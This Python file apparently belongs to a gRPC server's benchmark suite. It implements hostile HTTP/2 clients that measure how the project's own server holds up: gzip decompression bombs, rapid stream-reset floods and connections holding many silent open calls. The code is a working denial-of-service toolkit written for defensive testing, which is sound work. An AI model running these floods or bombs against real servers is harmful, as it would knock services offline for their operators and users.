"""Hostile clients, which run in a separate process so that their work does not count as the server's.

python -m benchmarks.attacks KIND HOST:PORT CLIENTS SECONDS PAUSE [CA] prints how many calls were begun and
ended. PAUSE is the time a connection waits before it replaces calls that have ended. With CA, a file, it uses
TLS.
"""

import contextlib
import gzip
import json
import selectors
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass

from benchmarks.raw_http2_client import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW,
    WINDOW_UPDATE,
    frame,
    headers_of,
)

BATCH_CREATE = "/orchestration.v1.TaskService/BatchCreateTasks"
GET_TASK = "/orchestration.v1.TaskService/GetTask"
EMPTY_TASKS = b"\x0a\x02\x0a\x00"
"""An item of BatchCreateTasksRequest: a `NewTask` with an empty task."""
BOMB = gzip.compress(EMPTY_TASKS * (4 * (1 << 20) - 64), 9)
PLAIN_BOMB = EMPTY_TASKS * (1 << 18)
SOURCE = "127.0.0.2"
"""The source address of the attackers, which differs from that of the good client."""
RESETS, RESETS_A_WRITE = 60_000, 500
SILENT = 1_100
"""The number of calls that all connections together keep open."""
FRAME_BYTES = 16_384
EMPTY_REQUEST = bytes(5)
"""The frame of a gRPC message without fields."""
CANCEL = struct.pack(">I", 8)


class AttackConnection:
    """An HTTP/2 connection that opens calls and counts those that the server ended."""

    def __init__(self, address: str, ca: str | None = None) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), source_address=(SOURCE, 0))
        self.socket.settimeout(5)
        if ca is not None:
            context = ssl.create_default_context(cafile=ca)
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname=host)
        self.next = 1
        self.begun = self.ended = 0
        self._live: set[int] = set()
        self.due = 0.0
        """The time from which it may begin calls again."""
        self.gone = 0
        """The number of ended calls that were not replaced."""
        self.open = True
        self._pending = b""
        settings = struct.pack(">HI", INITIAL_WINDOW, WINDOW)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW - 65535)))

    def send(self, data: bytes) -> None:
        try:
            self.socket.sendall(data)
        except OSError:
            self.open = False

    def stream(self) -> int:
        """Return the stream id of a new call."""
        number, self.next = self.next, self.next + 2
        self.begun += 1
        self._live.add(number)
        return number

    def take(self) -> None:
        """Read the available frames, and count the calls that the server ended."""
        try:
            data = self.socket.recv(1 << 18)
            while isinstance(self.socket, ssl.SSLSocket) and self.socket.pending():
                data += self.socket.recv(1 << 18)
        except OSError:
            data = b""
        if not data:
            self.open = False
            return
        data, at, before = self._pending + data, 0, self.ended
        while len(data) - at >= 9:
            size = int.from_bytes(data[at : at + 3])
            if len(data) - at < 9 + size:
                break
            kind, flags = data[at + 3], data[at + 4]
            if kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0, b""))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, data[at + 9 : at + 9 + size]))
            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                stream = int.from_bytes(data[at + 5 : at + 9])
                self.ended += stream in self._live
                self._live.discard(stream)
            elif kind == GOAWAY:
                self.open = False
            at += 9 + size
        self._pending = data[at:]
        self.gone += self.ended - before


@dataclass(frozen=True)
class Attack:
    """The actions of a connection when it opens, and each time the server has ended some of its calls."""

    open: Callable[[AttackConnection, str, int], None]
    """Begins the first calls. Takes the number of connections."""
    again: Callable[[AttackConnection, str, int], None]
    """Replaces calls that have ended. Takes their number."""
    more: Callable[[AttackConnection, str], None] | None = None
    """Opens and resets up to RESETS calls, without regard to answers."""
    reconnect: bool = True
    """True if a connection that the server closed is opened again."""


def _send_bomb(connection: AttackConnection, address: str, body: bytes, *, packed: bool) -> None:
    stream = connection.stream()
    headers = headers_of(address, BATCH_CREATE)
    if packed:
        headers += b"\x00\x0dgrpc-encoding\x04gzip"
    message = struct.pack(">BI", packed, len(body)) + body
    parts = [message[at : at + FRAME_BYTES] for at in range(0, len(message), FRAME_BYTES)]
    sent = frame(HEADERS, END_HEADERS, stream, headers)
    for number, part in enumerate(parts, 1):
        sent += frame(DATA, END_STREAM if number == len(parts) else 0, stream, part)
    connection.send(sent)


def _send_resets(connection: AttackConnection, address: str, *, whole: bool) -> None:
    """Open calls and reset them. If ``whole`` is set, send their request before."""
    headers = headers_of(address, GET_TASK)
    sent = b""
    for _ in range(RESETS_A_WRITE):
        stream = connection.stream()
        sent += frame(HEADERS, END_HEADERS, stream, headers)
        sent += frame(DATA, END_STREAM, stream, EMPTY_REQUEST) if whole else b""
        sent += frame(RST_STREAM, 0, stream, CANCEL)
    connection.send(sent)


def _open_silent(connection: AttackConnection, address: str, calls: int) -> None:
    headers = headers_of(address, GET_TASK)
    connection.send(b"".join(frame(HEADERS, END_HEADERS, connection.stream(), headers) for _ in range(calls)))


def _packed(connection: AttackConnection, address: str, calls: int) -> None:
    for _ in range(calls):
        _send_bomb(connection, address, BOMB, packed=True)


def _plain(connection: AttackConnection, address: str, calls: int) -> None:
    # The message fits into the window of a new stream, so there is no need to wait.
    for _ in range(calls):
        _send_bomb(connection, address, PLAIN_BOMB[: (1 << 16) - FRAME_BYTES], packed=False)


def _resets(*, whole: bool) -> Attack:
    return Attack(
        lambda connection, address, clients: None,
        lambda connection, address, ended: None,
        more=lambda connection, address: _send_resets(connection, address, whole=whole),
        reconnect=False,
    )


ATTACKS = {
    "bombs": Attack(lambda connection, address, clients: _packed(connection, address, 1), _packed),
    "plain": Attack(lambda connection, address, clients: _plain(connection, address, 1), _plain),
    "resets": _resets(whole=False),
    "whole": _resets(whole=True),
    "silent": Attack(
        lambda connection, address, clients: _open_silent(connection, address, SILENT // clients),
        _open_silent,
    ),
}


def run(
    kind: str, address: str, clients: int, seconds: float, pause: float, ca: str | None = None
) -> dict[str, int]:
    """Attack for `seconds`. Return the number of calls begun and of those that the server ended."""
    attack = ATTACKS[kind]
    end = time.monotonic() + seconds
    selector = selectors.DefaultSelector()
    totals = {"begun": 0, "ended": 0, "connections": 0}

    def connect() -> None:
        with contextlib.suppress(OSError):
            connection = AttackConnection(address, ca)
            totals["connections"] += 1
            selector.register(connection.socket, selectors.EVENT_READ, connection)
            attack.open(connection, address, clients)

    for _ in range(clients):
        connect()
    while time.monotonic() < end:
        for key, _ in selector.select(timeout=min(pause, 0.01) if attack.more is None else 0):
            connection: AttackConnection = key.data
            connection.take()
        now = time.monotonic()
        for key in list(selector.get_map().values()):
            connection = key.data
            if attack.more is not None and connection.open and connection.begun < RESETS:
                attack.more(connection, address)
            if connection.open and connection.gone and connection.due <= now:
                again, connection.gone, connection.due = connection.gone, 0, now + pause
                attack.again(connection, address, again)
            if not connection.open:
                _leave(selector, connection, totals)
                if attack.reconnect:
                    connect()
        if not selector.get_map():
            break
    for key in list(selector.get_map().values()):
        _leave(selector, key.data, totals)
    return totals


def _leave(selector: selectors.BaseSelector, connection: AttackConnection, totals: dict[str, int]) -> None:
    selector.unregister(connection.socket)
    connection.socket.close()
    totals["begun"] += connection.begun
    totals["ended"] += connection.ended


if __name__ == "__main__":
    kind, address, clients, seconds, pause, *ca = sys.argv[1:]
    print(json.dumps(run(kind, address, int(clients), float(seconds), float(pause), *ca)))
